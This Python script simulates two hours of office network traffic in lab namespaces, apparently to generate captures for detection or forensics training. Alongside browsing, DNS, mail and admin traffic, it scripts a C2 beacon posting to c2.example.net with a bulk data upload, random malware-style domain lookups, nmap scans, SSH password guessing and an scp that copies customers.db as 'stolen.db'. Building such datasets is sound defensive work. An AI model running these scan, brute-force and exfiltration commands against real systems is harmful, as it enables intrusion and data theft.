#!/usr/bin/env python3
"""Plays two hours of a small office in the lab's namespaces, minute by minute.

usage: scenario.py HOSTS.tsv WORKDIR TICKS.tsv

A tick stands for a minute. What happens in it happens at once and in real
time, so that round trips, retransmissions and timeouts are true; then the
next tick begins. TICKS.tsv gets the begin and the length of every tick, from
which retime.py spreads the ticks over two hours.

The story is fixed (its random choices are seeded); ports, round trips and
random data differ from run to run.
"""
import math
import random
import subprocess
import sys
import time

PREFIX = "cxl-"
TICKS = 120
STAFF = ["ws1", "ws2", "ws3", "ws4", "ws5", "ws6"]
HOSTS4 = {"office": "10.20.0.", "servers": "10.20.1.", "outside": "203.0.113."}
HOSTS6 = {"office": "fd00:20:0::", "servers": "fd00:20:1::", "outside": "2001:db8:cb::"}


class Lab:
    """Starts programs in namespaces and waits for them."""

    def __init__(self, hosts, work):
        self.work = work
        self.rand = random.Random(20261120)
        self.running = []
        self.addr4, self.addr6 = {}, {}
        with open(hosts) as f:
            for line in f:
                if line.startswith("#"):
                    continue
                name, segment, number = line.split("\t")[:3]
                self.addr4[name] = HOSTS4[segment] + number
                self.addr6[name] = HOSTS6[segment] + number

    def start(self, host, *cmd, stdin=None, limit=40):
        """Starts cmd on host; the tick ends when it has."""
        p = subprocess.Popen(
            ["ip", "netns", "exec", PREFIX + host, "timeout", str(limit), *map(str, cmd)],
            stdin=subprocess.PIPE if stdin else subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if stdin:
            p.stdin.write(stdin.encode())
            p.stdin.close()
        self.running.append(p)

    def wait(self):
        for p in self.running:
            p.wait()
        self.running = []

    def curl(self, host, *args):
        self.start(host, "curl", "-s", "-k", "-o", "/dev/null", "--max-time", "20", "--connect-timeout", "3", *args)

    def ssh(self, host, *args):
        self.start(host, "ssh", "-F", "none", "-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={self.work}/known_hosts", *args)

    def staff_ssh(self, *args):
        """ssh from admin as staff, by key, through one lasting connection."""
        self.ssh("admin", "-i", f"{self.work}/staff_key", "-o", f"ControlPath={self.work}/admin.sock",
                 "-l", "staff", *args)


def intensity(tick):
    """How much the staff does in a minute: a morning that fills, with a pause."""
    wave = 2 + 4 * math.sin(math.pi * tick / TICKS) ** 2
    return wave / 4 if 66 <= tick < 78 else wave


def browse(lab, tick):
    """Workstations load pages: some parts over parallel connections."""
    for ws in STAFF:
        if lab.rand.random() > intensity(tick) / 7:
            continue
        site = lab.rand.choice(["www.corp.example", "web.corp.example", "cdn.example.net", "cdn.example.net"])
        site = site.replace("www.", "web.")
        family = "-6" if ws == "ws5" or lab.rand.random() < 0.2 else "-4"
        scheme = lab.rand.choice(["http", "https", "https"])
        parts = ["index.html"] + lab.rand.sample(
            [f"style{i}.css" for i in range(1, 7)] + [f"picture{i}.png" for i in range(1, 7)] + ["old", "missing"],
            lab.rand.randint(1, 5))
        urls = []
        for part in parts:
            urls += ["-o", "/dev/null", f"{scheme}://{site}/{part}"]
        # HTTP/1.1 and -Z: one connection a part, as browsers have up to six.
        lab.curl(ws, family, "--http1.1", "-Z", "--parallel-immediate", "-A", "Mozilla/5.0 (lab)", *urls)
        if site.startswith("web"):
            lab.start("web", "redis-cli", "-h", lab.addr4["db"], "set", f"page{tick}", "x" * lab.rand.randint(10, 900))


def names(lab, tick):
    """Names that are asked for by themselves, some that do not exist, some by TCP."""
    ask = lambda host, *args: lab.start(host, "dig", "+tries=1", "+time=2", "@" + lab.addr4["dns"], *args)
    for _ in range(lab.rand.randint(0, 3)):
        host = lab.rand.choice(STAFF + ["admin", "printer"])
        ask(host, *lab.rand.choice([
            ("mail.corp.example", "A"), ("corp.example", "MX"), ("corp.example", "TXT"), ("files.corp.example", "AAAA"),
            ("-x", lab.addr4["web"]), ("-x", lab.addr6["cdn"]), ("wpad.corp.example", "A"), ("intranet.corp.example", "A")]))
    if tick % 17 == 5:
        ask("admin", "big.corp.example", "TXT")  # truncated, then by TCP
        ask("admin", "+tcp", "corp.example", "SOA")
        lab.start("ws5", "dig", "+tries=1", "@" + lab.addr6["dns"], "web.corp.example", "AAAA")
    if tick in (75, 76):
        for _ in range(20):  # names as malware makes them
            ask("ws2", "".join(lab.rand.choices("bcdfghjklmnpqrstvwxz0123456789", k=14)) + ".example.net", "A")


def housekeeping(lab, tick):
    """Monitoring, time, mail, logs."""
    if tick % 5 == 0:
        for name in ("web", "db", "files", "dns"):
            lab.start("admin", "ping", "-c", 2, "-i", 0.2, "-W", 1, lab.addr4[name])
        lab.start("admin", "ping", "-6", "-c", 2, "-i", 0.2, "-W", 1, lab.addr6["web"])
        lab.curl("admin", "https://web.corp.example/index.html")
        lab.start("admin", "redis-cli", "-h", "db.corp.example", "info", "stats")
    if tick % 3 == 1:
        lab.start(lab.rand.choice(STAFF), "logger", "-n", lab.addr4["logs"], "-P", 514, "-d", f"lab[{tick}]: user action")
        lab.start(lab.rand.choice(["web", "files"]), "logger", "-n", lab.addr6["logs"], "-P", 514, "-d", f"daemon[{tick}]: done")
    if tick % 8 == 2:
        host = STAFF[tick // 8 % 6]
        lab.start(host, "chronyd", "-Q", "-t", 4, "-f", f"{lab.work}/empty.conf", f"pidfile {lab.work}/chronyd-{host}.pid", "cmdport 0",
                  f"server {lab.addr4['time']} iburst maxsamples 4", limit=6)
    if tick % 6 == 3:
        host = lab.rand.choice(STAFF)
        body = f"From: {host}@corp.example\r\nTo: all@corp.example\r\nSubject: minutes {tick}\r\n\r\n"
        body += "word " * lab.rand.randint(10, 9000) + "\r\n"
        lab.start(host, "curl", "-s", "--max-time", 10, "smtp://mail.corp.example", "--mail-from", f"{host}@corp.example",
                  "--mail-rcpt", "all@corp.example", "-T", "-", stdin=body)


def failures(lab, tick):
    """Connections that come to nothing: silence, refusal, filter, reset."""
    if tick % 4 == 1:
        lab.curl("ws6", "--connect-timeout", "2", "http://10.20.1.99:445/")
    if tick % 13 == 6:
        lab.curl("ws1", "http://10.20.1.98:8080/")
        lab.curl("ws5", "--connect-timeout", "2", f"http://{lab.addr4['db']}:5432/")
    if tick % 7 == 3:
        lab.curl("ws2", f"http://{lab.addr4['printer']}:9100/")
        lab.curl("ws3", f"http://[{lab.addr6['files']}]:3389/")
    if tick % 12 == 4:
        lab.start("ws4", "python3", "-c", (
            "import socket,struct\n"
            f"s=socket.create_connection(('{lab.addr4['web']}',80),3)\n"
            "s.send(b'GET /manual.pdf HTTP/1.1\\r\\nHost: web\\r\\n\\r\\n'); s.recv(1000)\n"
            "s.setsockopt(socket.SOL_SOCKET,socket.SO_LINGER,struct.pack('ii',1,0)); s.close()"))


def beacon(lab, tick):
    """A call home each minute, and once a database's worth of data, at 09:25."""
    lab.curl("beacon", "-A", "updater/1.1", "--data", "id=77&state=idle&n=" + "0" * 64, "https://c2.example.net/post")
    if tick == 85:
        lab.start("beacon", "sh", "-c", f"head -c 1200000 /dev/urandom | curl -s -k --max-time 30 -o /dev/null "
                  f"--data-binary @- https://c2.example.net/post")


def administration(lab, tick):
    """Downloads, a long ssh session, traceroutes, large pings."""
    files = "files.corp.example"
    if tick == 12:
        lab.staff_ssh("-o", "ControlMaster=yes", "-o", "ControlPersist=yes", "-f", "-N", files)
    if 13 <= tick <= 110 and tick % 2:
        lab.staff_ssh(files, "ls -l /usr/bin | head -c " + str(lab.rand.randint(200, 6000)))
    if tick == 15:
        lab.start("admin", "sh", "-c", f"echo 'put {lab.work}/www/manual.pdf' | sftp -q -F none -o StrictHostKeyChecking=no "
                  f"-o UserKnownHostsFile={lab.work}/known_hosts -i {lab.work}/staff_key staff@{files}")
    if tick == 20:
        lab.start("admin", "traceroute", "-n", "-w", 1, "-q", 2, "-m", 6, lab.addr4["cdn"])
        lab.start("admin", "traceroute", "-n", "-w", 1, "-q", 1, "-m", 5, "10.20.1.99")
    if tick == 21:
        lab.start("admin", "traceroute", "-6", "-n", "-w", 1, "-q", 2, "-m", 6, lab.addr6["cdn"])
    if tick in (22, 52):
        lab.start("admin", "ping", "-c", 2, "-i", 0.2, "-s", 4000, lab.addr4["web"])
        lab.start("admin", "ping", "-6", "-c", 2, "-i", 0.2, "-s", 4000, lab.addr6["web"])
    if tick == 60:
        lab.curl("ws3", "http://cdn.example.net/update.bin")
    if tick == 95:
        lab.curl("ws5", "-6", "https://cdn.example.net/manual.pdf")


def scanner(lab, tick):
    """A sweep, scans of three kinds, guessed passwords, and what came of them."""
    a4, nmap = lab.addr4, ("nmap", "-n", "-T4", "--max-retries", "1")
    if tick == 25:
        lab.start("scanner", *nmap, "-sn", "--disable-arp-ping", "10.20.1.0/26", "10.20.1.80", limit=40)
    if tick == 30:
        lab.start("scanner", *nmap, "-Pn", "-sS", "--top-ports", 130, a4["web"], a4["files"], a4["mail"], a4["dns"])
    if tick == 32:
        lab.start("scanner", *nmap, "-Pn", "-sS", "--top-ports", 60, "--max-retries", 0, a4["db"], "10.20.1.99")
    if tick == 34:
        lab.start("scanner", *nmap, "-Pn", "-sT", "--top-ports", 80, a4["files"], a4["printer"])
    if tick == 36:
        lab.start("scanner", *nmap, "-Pn", "-sU", "--max-retries", 0, "-p", "53,67,69,111,123,137,161,500,514,1900,4500,5353",
                  a4["dns"], a4["logs"], a4["printer"])
    if tick == 37:
        lab.start("scanner", *nmap, "-6", "-Pn", "-sS", "--top-ports", 40, lab.addr6["web"])
    if 40 <= tick <= 48:
        for guess in range(4):
            password = "backup1" if (tick, guess) == (48, 3) else f"guess{tick}{guess}"
            lab.start("scanner", "sshpass", "-p", password, "ssh", "-F", "none", "-o", "StrictHostKeyChecking=no",
                      "-o", f"UserKnownHostsFile={lab.work}/known_hosts", "-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no",
                      "-l", lab.rand.choice(["root", "admin", "backup"]) if password != "backup1" else "backup", a4["files"], "id")
    if tick == 50:
        lab.start("scanner", "sh", "-c", "sshpass -p backup1 scp -F none -o StrictHostKeyChecking=no -o "
                  f"UserKnownHostsFile={lab.work}/known_hosts backup@{a4['files']}:customers.db {lab.work}/stolen.db")


SCENES = (beacon, browse, names, housekeeping, failures, administration, scanner)


def main():
    hosts, work, out = sys.argv[1:]
    lab = Lab(hosts, work)
    with open(out, "w") as ticks:
        for tick in range(TICKS):
            begin = time.time()
            for scene in SCENES:
                scene(lab, tick)
            lab.wait()
            time.sleep(0.05)  # the last segments of closing connections
            print(f"{tick}\t{begin:.6f}\t{time.time() - begin:.6f}", file=ticks, flush=True)


if __name__ == "__main__":
    main()
